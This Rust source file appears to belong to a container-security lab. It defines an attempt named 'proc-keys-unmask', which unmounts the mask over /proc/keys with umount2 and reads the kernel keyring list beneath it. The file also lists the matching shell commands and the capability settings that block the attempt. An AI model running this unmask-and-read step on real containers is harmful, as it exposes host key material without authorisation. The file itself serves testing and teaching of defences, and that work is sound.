//! proc-keys-unmask: the same, after taking the mask away.

use super::proc_keys::witness;
use super::{Attack, Attempt, Measured, Need};
use crate::Inside;
use crate::inside::procfs::procfs;
use crate::inside::read::bring_out;
use nix::errno::Errno;
use nix::libc;
use nix::mount::{MntFlags, umount2};

/// The attempt.
pub const ATTEMPT: Attempt = Attempt {
    id: "proc-keys-unmask",
    stake: "Every path that a mask hides: a mask is a mount, and a mount can be undone.",
    story: "What hides /proc/keys is another file mounted over it. The attacker unmounts whatever lies there and \
            reads the list of keys below. umount2(2) needs CAP_SYS_ADMIN in the container's mount namespace, \
            which root in a container has until it is taken away (EPERM). So a mask is as good as the capability \
            sets.",
    by_hand: &["umount /proc/keys", "cat /proc/keys"],
    stopped_by: &["lab4-capabilities/bounding-set", "lab4-capabilities/capability-sets"],
    after: &["proc-keys"],
    man: &["umount(2)", "keyrings(7)", "capabilities(7)"],
    letters: Measured { root: "E EEEEBBB", user: "E EEEEBBB", rootless: "E EEEEBBB" },
    needs: &[Need::FreshHost],
    decisive: &[libc::SYS_umount2, libc::SYS_openat, libc::SYS_pread64],
    attack: Attack::Inside(inside),
    witness,
};

fn inside(me: &mut Inside) -> Result<(), Errno> {
    let path = format!("{}/keys", procfs()?);
    me.decisive(&format!("umount2(\"{path}\", MNT_DETACH), open(O_RDONLY), pread()"));
    match umount2(path.as_str(), MntFlags::MNT_DETACH) {
        // No mount, and so no mask, lies there.
        Ok(()) | Err(Errno::EINVAL) => bring_out(me, &path),
        Err(refused) => Err(refused),
    }
}
